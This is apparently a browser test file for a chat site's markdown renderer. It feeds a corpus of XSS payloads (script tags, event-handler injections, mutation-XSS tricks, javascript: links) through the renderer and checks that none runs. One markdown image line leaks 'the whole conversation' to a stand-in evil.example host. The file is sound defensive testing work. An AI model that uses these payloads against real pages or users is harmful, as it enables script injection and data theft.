"""Whatever a model writes, nothing of it runs: an XSS corpus through the true renderer in a true browser.

The pages here come without a Content-Security-Policy, so that the renderer stands alone; the policy is a second wall.
"""

import json
import mimetypes
from pathlib import Path

import pytest
from csp.utils import build_policy
from playwright.sync_api import Page, Route

pytestmark = pytest.mark.browser

STATIC = Path(__file__).resolve().parent.parent.parent / "static"
SITE = "http://chatsite.test/"

# What each payload would do if it ran.
RAN = "window.__ran = true"

# Raw HTML: dangerous as soon as it is taken for HTML.
HTML_PAYLOADS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT>",
    f"<img src=x onerror='{RAN}'>",
    f"<img src=x onerror={RAN}//\n<b>",
    f'<img src="data:,x" onerror="{RAN}">',
    f"<svg onload='{RAN}'></svg>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin='{RAN}' attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RAN}"><text y=20>x</text></a></svg>',
    f'<math><a xlink:href="javascript:{RAN}">x</a></math>',
    f"<iframe srcdoc='<script>parent.{RAN[7:]}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RAN[7:]}"></iframe>',
    f'<object data="javascript:{RAN}"></object>',
    f'<embed src="javascript:{RAN}">',
    f"<details open ontoggle='{RAN}'>x</details>",
    f"<video><source onerror='{RAN}'></video>",
    f"<audio src=x onerror='{RAN}'></audio>",
    f"<input autofocus onfocus='{RAN}'>",
    f"<body onload='{RAN}'>",
    f"<marquee onstart='{RAN}'>x</marquee>",
    f"<form action='javascript:{RAN}'><button>x</button></form>",
    f"<button formaction='javascript:{RAN}' form=f>x</button>",
    f"<p style='animation:x' onanimationstart='{RAN}'>x</p>",
    f"<style>@keyframes x{{}}*{{animation:x}}</style><b onanimationstart='{RAN}'>x</b>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload='{RAN}'>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RAN}">',
    "<base href='//evil.example/'>",
    f"<template><script>{RAN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RAN}'>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{RAN}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='{RAN}'&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror='{RAN}'>\">",
    "<form id=texts><input name=dataset></form>",
    "<a id=chat href=x>x</a>",
)

# Markdown whose result is dangerous.
MARKDOWN_PAYLOADS = (
    f"[x](javascript:{RAN})",
    f"[x](JaVaScRiPt:{RAN})",
    f"[x](&#106;avascript:{RAN})",
    f"[x](javascript&colon;{RAN})",
    f"[x](java\tscript:{RAN})",
    f"[x](<java\nscript:{RAN}>)",
    f"[x]( javascript:{RAN})",
    f"[x](\x01javascript:{RAN})",
    f"[x](vbscript:{RAN})",
    f"[x](data:text/html,<script>{RAN}</script>)",
    f"[x](data:text/html;base64,PHNjcmlwdD4={RAN})",
    f"[x](blob:{RAN})",
    "[x](file:///etc/passwd)",
    "[x](/accounts/logout)",
    "[x](//evil.example)",
    f"[x][y]\n\n[y]: javascript:{RAN}",
    f"<javascript:{RAN}>",
    f"![x](javascript:{RAN})",
    f'![x" onerror="{RAN}](https://evil.example/a.png)',
    "![secret](https://evil.example/log?q=the+whole+conversation)",
    "![x][y]\n\n[y]: https://evil.example/a.png",
    f'[x](https://a.example "\\" onmouseover=\\"{RAN}")',
    f"[x](https://a.example'onmouseover='{RAN})",
    f"https://a.example/\"onmouseover='{RAN}'",
    f"```\"><img/src=x/onerror='{RAN}'>\ncode\n```",
    f"```html onload={RAN}\n<script>{RAN}</script>\n```",
    f"```python\n</code></pre><script>{RAN}</script>\n```",
    f"`</code><script>{RAN}</script>`",
    f"    </code></pre><img src=x onerror='{RAN}'>",
    f"| <script>{RAN}</script> | x |\n|:-:|--:|\n| <img src=x onerror='{RAN}'> | y |",
    f"# <svg onload='{RAN}'>",
    f"> <iframe src='javascript:{RAN}'>",
    f"- <img src=x onerror='{RAN}'>\n  - [x](javascript:{RAN})",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"\\<script>{RAN}</script>",
    f"**<b onclick='{RAN}'>x</b>**",
    f"<!-- --><script>{RAN}</script> -->",
    f"<![CDATA[><img src=x onerror='{RAN}'>]]>",
    "".join(f"[{'x' * n}](" for n in range(60)) + f"javascript:{RAN}" + ")" * 60,
)

PAYLOADS = HTML_PAYLOADS + MARKDOWN_PAYLOADS

# Answers what of a box is not on the lists. The lists are written out here and not taken from the renderer: a name that
# slips into its lists must fail.
AUDIT = """
window.audit = (box) => {
  const tags = new Set(`a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td
    th thead tr ul`.split(/\\s+/));
  const attributes = new Set(`class dir href title start target rel tabindex role aria-label type
    data-action`.split(/\\s+/));
  const found = [];
  for (const node of box.querySelectorAll("*")) {
    if (!tags.has(node.localName) || node.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(node.nodeName);
    for (const attribute of node.attributes) {
      if (!attributes.has(attribute.name)) found.push(`${node.localName}[${attribute.name}]`);
      if (/^(javascript|vbscript|data|blob|file):/i.test(attribute.value.replace(/[\\s\\x00-\\x20]/g, "")))
        found.push(attribute.value);
    }
    if (node.hasAttribute("href") && !/^(https?:\\/\\/|mailto:)/.test(node.getAttribute("href")))
      found.push(node.getAttribute("href"));
    if (node.localName === "a" && node.href && !node.rel.includes("noopener")) found.push("rel");
  }
  return found;
};
window.provoke = async (box) => {
  for (const node of box.querySelectorAll("*")) {
    for (const type of ["mouseover", "focus", "toggle", "load", "error", "animationstart"])
      node.dispatchEvent(new Event(type, { bubbles: true }));
    if (node.localName !== "a") node.click();
  }
  await new Promise((resolve) => setTimeout(resolve, 20));
  return window.__ran === true;
};
void 0;  // a function as the last value would be called
"""


def serve(page: Page, policy: str = "") -> None:
    """An empty page at SITE whose scripts are the product's; nothing else can be reached, and attempts are noted."""

    def answer(route: Route) -> None:
        path = route.request.url.removeprefix(SITE)
        headers = {"Content-Security-Policy": policy} if policy else {}
        if path == "":
            route.fulfill(body="<!doctype html><div id=box></div>", content_type="text/html", headers=headers)
        elif route.request.url.startswith(SITE) and (STATIC / path).is_file():
            kind = mimetypes.guess_type(path)[0] or "text/plain"
            route.fulfill(path=STATIC / path, content_type=kind, headers=headers)
        else:
            strangers(page).append(route.request.url)
            route.abort()

    page.route("**/*", answer)
    page.goto(SITE)
    page.evaluate("async () => { window.renderer = await import('/js/chat/markdown.js'); }")
    page.evaluate(AUDIT)


_strangers: dict[Page, list[str]] = {}


def strangers(page: Page) -> list[str]:
    """Addresses that the page asked for although nobody may."""
    return _strangers.setdefault(page, [])


@pytest.fixture(scope="module")
def rendering_page(browser):
    """One page for the whole corpus: a payload that ran would fail its own test, which looks before the next one."""
    context = browser.new_context()
    page = context.new_page()
    serve(page)
    yield page
    context.close()


def draw(page: Page, source: str) -> list[str]:
    page.evaluate(
        """source => {
          delete window.__ran;
          document.getElementById("box").replaceChildren(renderer.renderMarkdown(source));
        }""",
        source,
    )
    problems: list[str] = page.evaluate("audit(document.getElementById('box'))")
    if page.evaluate("provoke(document.getElementById('box'))"):
        problems.append("it ran")
    return problems + strangers(page)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_draws_nothing_dangerous(rendering_page, payload):
    assert draw(rendering_page, payload) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_draws_nothing_dangerous_while_the_text_grows(rendering_page, payload):
    problems = rendering_page.evaluate(
        """async (payload) => {
          delete window.__ran;
          const box = document.getElementById("box");
          const growing = new renderer.GrowingMarkdown(box);
          const found = [];
          const step = Math.ceil(payload.length / 4);
          for (let i = 0; i < payload.length; i += step) {
            growing.append(payload.slice(i, i + step));
            await new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve), 10));
            found.push(...audit(box));
          }
          growing.finish();
          return [...found, ...audit(box), ...((await provoke(box)) ? ["it ran"] : [])];
        }""",
        payload,
    )
    assert problems + strangers(rendering_page) == []


def test_the_corpus_would_be_noticed(rendering_page):
    """The audit itself: what raw HTML makes of the payloads does not pass it."""
    unnoticed = [
        payload
        for payload in HTML_PAYLOADS
        if not rendering_page.evaluate(
            """payload => {
              const box = new DOMParser().parseFromString(payload, "text/html").documentElement;
              return audit(box).filter((name) => !["HEAD", "BODY"].includes(name)).length;
            }""",
            payload,
        )
    ]
    assert unnoticed == []


def test_it_shows_html_as_the_text_it_is(rendering_page):
    draw(rendering_page, "Use <b>bold</b> & <script>alert(1)</script>")
    assert rendering_page.inner_text("#box") == "Use <b>bold</b> & <script>alert(1)</script>"


def test_it_shows_a_link_to_nowhere_good_as_text(rendering_page):
    draw(rendering_page, "[click](javascript:alert(1)) or [here](/admin/)")
    assert rendering_page.inner_text("#box") == "[click](javascript:alert(1)) or [here](/admin/)"


def test_it_makes_a_link_of_an_image_and_asks_for_nothing(rendering_page):
    draw(rendering_page, "![a cat](https://pictures.example/cat.png)")
    assert rendering_page.get_attribute("#box a", "href") == "https://pictures.example/cat.png"
    assert "a cat" in rendering_page.inner_text("#box a")
    assert strangers(rendering_page) == []


def test_it_opens_links_without_telling_where_they_came_from(rendering_page):
    draw(rendering_page, "[docs](https://docs.example/) and https://bare.example/path.")
    links = rendering_page.locator("#box a")
    assert [links.nth(i).get_attribute("href") for i in range(2)] == [
        "https://docs.example/",
        "https://bare.example/path",
    ]
    for i in range(2):
        assert links.nth(i).get_attribute("target") == "_blank"
        assert {"noopener", "noreferrer"} <= set(links.nth(i).get_attribute("rel").split())


RICH = """# Title

Some *text* with `code`, a line
break and ~~more~~.

### Skipped a level

1. one
2. two

   - nested

     ```js
     const x = "<b>";
     ```

3. three

2

| left | middle | right |
|:-----|:------:|------:|
| a    | b      | c     |

> quoted
> > twice

```python
def f(x):
    return {"a": x}  # <tag>
```

***

A [late][ref] link.

[ref]: https://late.example/
"""


def test_it_needs_nothing_that_the_policy_forbids(page):
    """`make_page` fails the test on a violation; an alignment as a style attribute would be one."""
    serve(page, policy=build_policy())
    assert draw(page, RICH) == []
    assert page.locator("#box td.align-right").inner_text() == "c"
    assert page.locator("#box .hljs-keyword").count() > 0


@pytest.mark.parametrize("step", [1, 3, 17, 1000])
def test_it_ends_with_the_same_however_the_text_arrived(rendering_page, step):
    whole, grown = rendering_page.evaluate(
        """async ([source, step]) => {
          const whole = document.createElement("div");
          whole.append(renderer.renderMarkdown(source));
          const box = document.getElementById("box");
          const growing = new renderer.GrowingMarkdown(box);
          for (let i = 0; i < source.length; i += step) {
            growing.append(source.slice(i, i + step));
            if (i % 9 === 0) await new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve), 0));
          }
          growing.finish();
          return [whole.innerHTML, box.innerHTML];
        }""",
        [RICH, step],
    )
    assert grown == whole


def test_it_tells_each_block_once_and_in_order(rendering_page):
    told = rendering_page.evaluate(
        """async () => {
          const told = [];
          const box = document.getElementById("box");
          const growing = new renderer.GrowingMarkdown(box, (nodes) => told.push(renderer.spoken(nodes)));
          for (const word of "First one.\\n\\nSecond.\\n\\nThird.\\n\\nFourth.".split(/(?<=\\W)/)) {
            growing.append(word);
            await new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve), 5));
          }
          growing.finish();
          return told.join("\\n").split("\\n").filter(Boolean);
        }"""
    )
    assert told == ["First one.", "Second.", "Third.", "Fourth."]


def test_it_keeps_finished_blocks_while_more_is_written(rendering_page):
    """A selection, a focused button or a scrolled code block in them must survive."""
    kept = rendering_page.evaluate(
        """async () => {
          const frame = () => new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve), 30));
          const box = document.getElementById("box");
          const growing = new renderer.GrowingMarkdown(box);
          growing.append("First.\\n\\nSecond.\\n\\nThird.\\n\\nFourth.");
          await frame();
          const first = box.firstElementChild;
          growing.append(" More.\\n\\nFifth.");
          await frame();
          return first === box.firstElementChild && box.childElementCount === 5;
        }"""
    )
    assert kept


def test_it_keeps_the_outline_of_the_page(rendering_page):
    """An answer's headings begin below the page's own and skip no level on the way down."""
    draw(rendering_page, RICH)
    names = rendering_page.evaluate(
        "[...document.querySelectorAll('#box :is(h1,h2,h3,h4,h5,h6)')].map(h => h.localName)"
    )
    assert names == ["h3", "h4"]


def test_it_stays_quick_with_a_text_made_to_be_slow(rendering_page):
    source = "[" * 5000 + "*_" * 5000 + ">" * 2000 + "`" * 3000 + "\n" + "|a" * 2000
    milliseconds = rendering_page.evaluate(
        "source => { const t = performance.now(); renderer.renderMarkdown(source); return performance.now() - t; }",
        source,
    )
    assert milliseconds < 5000, json.dumps(milliseconds)
